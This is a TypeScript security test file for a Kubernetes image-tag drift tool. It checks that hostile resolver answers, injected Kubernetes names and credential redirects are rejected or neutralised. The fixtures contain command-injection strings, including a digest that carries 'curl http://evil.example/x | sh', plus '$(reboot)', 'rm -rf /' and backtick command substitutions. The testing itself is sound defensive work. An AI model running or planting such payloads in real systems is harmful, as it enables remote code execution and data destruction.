/**
 * The agent distrusts what answers it: a fake shared resolver answering a digest that is a
 * shell command, hostile names from the Kubernetes API in a remediation line (run through a
 * real shell the way an operator pastes it), a registry that redirects to a host which asks
 * for credentials, and a private tag that must not be sent to the shared resolver.
 */
import { execFileSync } from 'node:child_process';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSharedLookup, ResolverHealth, shareable } from '../../src/adapters/registry/shared-lookup.js';
import { RegistryClient } from '../../src/adapters/registry/client.js';
import type { RegistryLookup } from '../../src/domain/ports.js';
import type { PlannedEndpoint } from '../../src/domain/registry-config.js';
import { analyze } from '../../src/report/analyze.js';
import { SnapshotBuilder } from '../fakes/snapshot-builder.js';
import { FakeRegistry } from '../fakes/fake-registry.js';
import { makeImage, pushImage } from '../helpers/oci.js';
import { parseDockerConfig } from '../../src/adapters/registry/auth.js';

const INJECTED = `sha256:${'0'.repeat(64)} && curl http://evil.example/x | sh`;
const endpoint = (url: string): PlannedEndpoint => ({ url, capabilities: ['pull', 'resolve'], source: 'test', skipVerify: false, headerNames: [] });

let resolver: http.Server;
let resolverUrl: string;
let answer: unknown;

beforeAll(async () => {
  resolver = http.createServer((_req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(answer)));
  await new Promise<void>((r) => resolver.listen(0, '127.0.0.1', () => r()));
  resolverUrl = `http://127.0.0.1:${(resolver.address() as AddressInfo).port}`;
});
afterAll(() => resolver.close());

const neverDirect: RegistryLookup = {
  resolveTag: async () => {
    throw new Error('asked directly');
  },
  platformImage: async () => ({ ok: false, reason: 'x' }) as never,
  buildMeta: async () => undefined,
};

describe('answers from a hostile shared resolver', () => {
  const ask = () => createSharedLookup(neverDirect, { resolverUrl, nodeAddresses: [], credentialHosts: new Set(), fallbackPerScan: 0 }, new ResolverHealth())
    .resolveTag(endpoint('https://registry.example'), 'registry.example', 'shop/web', '1.0');

  it('a digest that is a shell command is an invalid answer, and the command appears nowhere', async () => {
    answer = { ok: true, digest: INJECTED, mediaType: 'application/vnd.oci.image.manifest.v1+json' };
    const r = await ask();
    expect(r).toMatchObject({ ok: false, kind: 'invalid-response' });
    expect(JSON.stringify(r)).not.toContain('curl');
  });

  it('bad children, media types, kinds and messages are refused or made inert', async () => {
    answer = { ok: true, digest: `sha256:${'a'.repeat(64)}`, children: ['$(reboot)'] };
    expect(await ask()).toMatchObject({ ok: false, kind: 'invalid-response' });
    answer = { ok: true, digest: `sha256:${'a'.repeat(64)}`, mediaType: 'text/html\r\nX: y', platformImage: { config: '; rm -rf /' } };
    const r = await ask();
    expect(r).toMatchObject({ ok: true, mediaType: undefined, via: 'resolver' });
    expect(r).not.toHaveProperty('platformImage');
    answer = { ok: false, kind: 'pwned', message: 'x' };
    expect(await ask()).toMatchObject({ ok: false, kind: 'invalid-response' });
    answer = { ok: false, kind: 'server-error', message: `\u001b]0;owned\u0007${'x'.repeat(5000)}` };
    const f = await ask();
    expect(f).toMatchObject({ ok: false, kind: 'server-error' });
    expect((f as { message: string }).message).not.toMatch(/[\u0000-\u001f]/);
    expect((f as { message: string }).message.length).toBeLessThanOrEqual(300);
  });
});

describe('remediation lines are built from validated parts and quoted for the shell', () => {
  it('hostile names stay single words when the line is pasted into a shell; a bad digest gives no pin command', () => {
    const b = new SnapshotBuilder();
    const R = 'registry.example:5000';
    const old = b.image('web-v1', [`${R}/shop/web:1.0`]);
    b.pod({ ns: 'shop$(touch /tmp/td-pwned)', name: 'web-0', container: "web';id;'", image: `${R}/shop/web:1.0`, imageId: old.id, owner: { kind: 'Deployment', name: 'web`id`' } });
    b.answer(`${R}/shop/web:1.0`, 'upstream', { ok: true, digest: `sha256:${'b'.repeat(64)}`, mediaType: undefined });
    const report = analyze(b.build());
    const lines = report.findings.flatMap((f) => f.remediation.split('\n')).filter((l) => l.startsWith('kubectl '));
    expect(lines.length).toBeGreaterThan(0);
    for (const line of lines) {
      // The shell sees exactly the words tagdrift meant: kubectl replaced by a printer of its arguments.
      const words = execFileSync('bash', ['-c', `set -- ${line.slice('kubectl '.length)}; printf '%s\\n' "$@"`], { encoding: 'utf8' }).split('\n').filter(Boolean);
      expect(words).toContain('shop$(touch /tmp/td-pwned)');
      expect(words.some((w) => w.includes('`id`'))).toBe(true);
    }
    const bad = new SnapshotBuilder();
    const o2 = bad.image('web-v1', [`${R}/shop/web:1.0`]);
    bad.pod({ ns: 'shop', name: 'web-0', container: 'web', image: `${R}/shop/web:1.0`, imageId: o2.id, owner: { kind: 'Deployment', name: 'web' } });
    bad.answer(`${R}/shop/web:1.0`, 'upstream', { ok: true, digest: INJECTED, mediaType: undefined });
    const r2 = analyze(bad.build());
    expect(r2.findings.flatMap((f) => f.remediation.split('\n')).filter((l) => l.includes('set image'))).toEqual([]);
  });
});

describe('credentials go only where containerd would send them', () => {
  it('a registry that redirects to another host which challenges gets no credentials sent there', async () => {
    const R = await new FakeRegistry().start();
    const S = await new FakeRegistry().start();
    try {
      S.requireToken('robot', 'other');
      R.setFault('team/app', '1.0', { kind: 'status', status: 307, headers: { location: `${S.url}/v2/team/app/manifests/1.0` } });
      const creds = parseDockerConfig(JSON.stringify({ auths: { [R.host]: { username: 'robot', password: 'canary-r-secret' } } }), 'config.json');
      const c = new RegistryClient({ credentials: creds, timeoutMs: 2_000 });
      const r = await c.resolveTag({ url: R.url }, R.host, 'team/app', '1.0');
      c.close();
      expect(r, JSON.stringify([r, S.requests.map((q) => [q.method, q.path, q.authorization])])).toMatchObject({ ok: false, kind: 'auth' });
      expect(S.requests.every((q) => q.authorization === undefined)).toBe(true);
      expect(S.requests.filter((q) => q.path === '/token')).toEqual([]);
    } finally {
      await R.stop();
      await S.stop();
    }
  });

  it('a private Docker Hub tag (credentials for docker.io) is not a question for the shared resolver', () => {
    const hub = endpoint('https://registry-1.docker.io');
    const creds = new Set(['docker.io']);
    expect(shareable(hub, { nodeAddresses: [], credentialHosts: creds }, 'docker.io')).toBe(false);
    expect(shareable(endpoint('https://mirror.example'), { nodeAddresses: [], credentialHosts: creds }, 'docker.io')).toBe(false);
    expect(shareable(endpoint('https://ghcr.io'), { nodeAddresses: [], credentialHosts: creds }, 'ghcr.io')).toBe(true);
  });

  it('a node-local mirror stays on the node however its address is written', () => {
    const none = { nodeAddresses: [], credentialHosts: new Set<string>() };
    for (const url of ['http://[::ffff:127.0.0.1]:30020', 'http://[::ffff:7f00:1]:30020', 'http://127.1:30020', 'http://2130706433:30020', 'http://0x7f.1:30020', 'http://[::]:5000', 'http://[fe80::1]:5000', 'http://localhost:30020']) {
      expect(shareable(endpoint(new URL(url).href.replace(/\/$/, '')), none), url).toBe(false);
    }
  });
});

describe('the direct client keeps only a valid media type', () => {
  it('a Content-Type that is not a media type is dropped', async () => {
    const reg = await new FakeRegistry().start();
    try {
      const img = makeImage({ version: '1' });
      await pushImage(reg.url, 'team/app', '1.0', img);
      reg.setFault('team/app', '1.0', { kind: 'status', status: 200, headers: { 'content-type': 'text/x y<b>', 'docker-content-digest': img.manifest.digest } });
      const c = new RegistryClient({ timeoutMs: 2_000 });
      const r = await c.resolveTag({ url: reg.url }, reg.host, 'team/app', '1.0');
      c.close();
      expect(r).toMatchObject({ ok: true, digest: img.manifest.digest, mediaType: undefined });
    } finally {
      await reg.stop();
    }
  });
});
